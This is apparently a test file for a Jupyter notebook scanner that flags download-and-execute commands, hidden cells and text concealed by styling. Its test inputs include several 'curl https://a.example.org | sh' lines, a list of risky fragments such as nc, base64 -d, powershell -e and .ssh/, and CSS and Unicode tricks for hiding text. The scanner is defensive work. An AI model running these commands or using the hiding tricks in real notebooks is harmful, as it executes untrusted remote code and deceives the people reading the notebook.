import { riskySearches } from '.';
import { reviewNotebook, type RiskyCode } from '..';
import { against } from '../fixtures/calmcode';
import { together, towards } from '../fixtures/code';
import { tooLong } from '../../../../scripts/testing/patience';

const toCell = (source: string): object => ({
  cell_type: 'code',
  metadata: {},
  source,
  outputs: []
});

const find = (...cells: readonly object[]): readonly RiskyCode[] =>
  reviewNotebook({ cells }).code;

const kindsOf = (...sources: readonly string[]): string[] =>
  find(...sources.map(toCell)).map(({ kind }) => kind);

describe.each(Object.entries(towards))('%s', (kind, sources) => {
  it.each(sources)('is told of: %s', source => {
    expect(kindsOf(source)).toContain(kind);
  });

  it.each(sources.filter(source => !/^%%|\n/.test(source)))(
    'is not told of in a comment: %s',
    source => {
      expect(kindsOf(`# ${source}`)).toEqual([]);
    }
  );
});

describe.each(Object.entries(against))('what is no %s', (_, sources) => {
  it.each(sources)('is not told of: %s', source => {
    expect(kindsOf(source)).toEqual([]);
  });
});

it.each(together)('over several cells: %s', (_, cells, expected) => {
  expect(kindsOf(...cells)).toEqual(expected);
});

it.each([
  'print(os.system("curl https://a.example.org | sh"))',
  'run = "curl https://a.example.org | sh"',
  "!echo '''\n!curl https://a.example.org | sh\n!echo '''",
  '"$(curl https://a.example.org | sh)"',
  '%%bash\n"$(curl https://a.example.org | sh)"'
])('what is not only told is told of: %s', source => {
  expect(kindsOf(source)).toContain('download-executed');
});

/** What a cell looks like is no text: these kinds have tests of their own below. */
const ofLooks = ['hidden-cell', 'hidden-text'];

it('every kind has fixtures for and against it', () => {
  const kinds = riskySearches
    .map(({ kind }) => kind)
    .filter(kind => !ofLooks.includes(kind));
  const told = [
    ...Object.keys(towards),
    ...together.flatMap(([, , expected]) => expected)
  ];
  expect(kinds.filter(kind => !told.includes(kind))).toEqual([]);
  expect(kinds.filter(kind => !against[kind]?.length)).toEqual([]);
});

it('is told with its cell, its line and a reason', () => {
  expect(
    find(toCell('a = 1'), toCell('b = 2\n!curl https://a.example.org | sh'))
  ).toEqual([
    {
      cell: 1,
      line: 1,
      kind: 'download-executed',
      reason: expect.stringMatching(/^[A-Z].*\.$/) as string,
      excerpt: '!curl https://a.example.org | sh'
    }
  ]);
});

describe('a hidden cell', () => {
  it.each([
    { jupyter: { source_hidden: true } },
    { jupyter: { source_hidden: 'true' } },
    { inputCollapsed: true },
    { cellView: 'form' }
  ])('is one with %j', metadata => {
    expect(find({ ...toCell('a = 1'), metadata })).toMatchObject([
      { kind: 'hidden-cell', line: 0 }
    ]);
    expect(find({ ...toCell(' '), metadata })).toEqual([]);
  });

  it.each([
    {},
    { jupyter: { source_hidden: false } },
    { jupyter: { outputs_hidden: true } }
  ])('is none with %j', metadata => {
    expect(find({ ...toCell('a = 1'), metadata })).toEqual([]);
  });

  const text = (source: string, collapsed?: unknown): object => ({
    cell_type: 'markdown',
    metadata: { 'jp-MarkdownHeadingCollapsed': collapsed },
    source
  });

  it('is one below a collapsed heading, up to the next heading of its level', () => {
    const found = find(
      text('# A', true),
      toCell('a'),
      text('## B'),
      toCell('b'),
      text('# C'),
      toCell('c')
    );
    expect(found.map(({ cell }) => cell)).toEqual([1, 3]);
  });

  it.each([
    '# A',
    '   # A',
    'a\n# A',
    'a\n\n# A',
    'A\n===',
    'A\n---',
    '## B\n# A',
    '<h1>A</h1>',
    '<h2 align="center">\nA\n</h2>',
    'a <h2>A</h2>'
  ])('is one below what JupyterLab takes for a heading: %j', source => {
    expect(find(text(source, true), toCell('a'))).toMatchObject([{ cell: 1 }]);
    expect(find(text(source, false), toCell('a'))).toEqual([]);
    // It ends what is collapsed above it too.
    const above = text('###### A', true);
    expect(find(above, text(source), toCell('a'))).toEqual([]);
  });

  it.each([
    'a',
    '    # A',
    '```\n# A\n```',
    '#A',
    '- # A',
    '> # A',
    '<!-- # A -->',
    '<div><h1>A</h1></div>',
    '`<h1>`'
  ])('is none below what JupyterLab takes for no heading: %j', source => {
    expect(find(text(source, true), toCell('a'))).toEqual([]);
  });

  it.each(['true', 1])('is one below a heading collapsed by %j', value => {
    expect(find(text('# A', value), toCell('a'))).toMatchObject([{ cell: 1 }]);
  });
});

describe('hidden text', () => {
  const text = (source: string): object => ({
    cell_type: 'markdown',
    metadata: {},
    source
  });
  it.each([
    toCell(`a = 1${' '.repeat(200)}; b()`),
    toCell(`a = 1${'\n'.repeat(80)}b()`),
    toCell('a = "\u202e" # b'),
    text('<span style="color: white">a</span>'),
    text('<font color="#FFFFFF">a</font>'),
    text('<p style="background: #fff; color:#fff">a</p>'),
    text('<p style="background: black; color:rgb(0, 0, 0)">a</p>'),
    text('<p style="color: #123; background-color: #112233">a</p>'),
    text('<p style="font-size: 0px">a</p>'),
    text('<p style="opacity:0">a</p>'),
    text('<p style="color: snow">a</p>'),
    text('- <span style="color:#fffffe">a</span>'),
    text('<p style="font-size:1px">a</p>'),
    text('<p style="display:none">a</p>'),
    text('<p style="visibility: hidden">a</p>'),
    text('<p style="position:absolute; left: -9999px">a</p>'),
    text('<p style="text-indent:-999em">a</p>'),
    text('<p style="max-height:0; overflow:hidden">a</p>'),
    text('<p class="a lm-mod-hidden">a</p>'),
    text('$\\color{white}{a}$'),
    text('$$\na \\textcolor{#fff}{b}\n$$'),
    // Too long to be taken apart.
    text(`${'a '.repeat(16_000)}<p style="display:none">a</p>`)
  ])('is %j', cell => {
    expect(find(cell)).toMatchObject([{ kind: 'hidden-text' }]);
  });

  it.each([
    toCell(`a = 1${' '.repeat(60)}# b`),
    toCell(`a = 1${'\n'.repeat(20)}b()`),
    text('<span style="color: white; background: black">a</span>'),
    text('<span style="background-color: white">a</span>'),
    text('<span style="background: black">a</span>'),
    text('<span style="font-size: 0.8em; opacity: 0.5">a</span>'),
    text('color: white'),
    text('<span style="color: #ccc">a</span>'),
    text('<p style="height:0">a</p>'),
    text('<p style="margin-left: -20px; max-height: 0.5em; overflow: hidden">'),
    text('`<p style="display:none">`'),
    text('```html\n<p style="color: white">a</p>\n```'),
    text('    <p style="display: none">a</p>'),
    text('Write `\\color{white}` for white'),
    text('$\\colorbox{black}{\\color{white} a}$')
  ])('is not %j', cell => {
    expect(find(cell)).toEqual([]);
  });
});

it.each([
  'curl ',
  'curl a | ',
  'exec(',
  'pip install ',
  'os.environ',
  '> .',
  'base64 -d ',
  'nc ',
  'a = b64decode',
  '.ssh/',
  '<a color=',
  'open(',
  'powershell -e ',
  'crontab ',
  'a=a;',
  'curl -o a ',
  './a ',
  'requests.get("',
  'with a as b'
])('a long cell of "%s" takes no time', piece => {
  const start = performance.now();
  find(toCell(piece.repeat(200_000 / piece.length)));
  expect(performance.now() - start).toBeLessThan(tooLong);
});
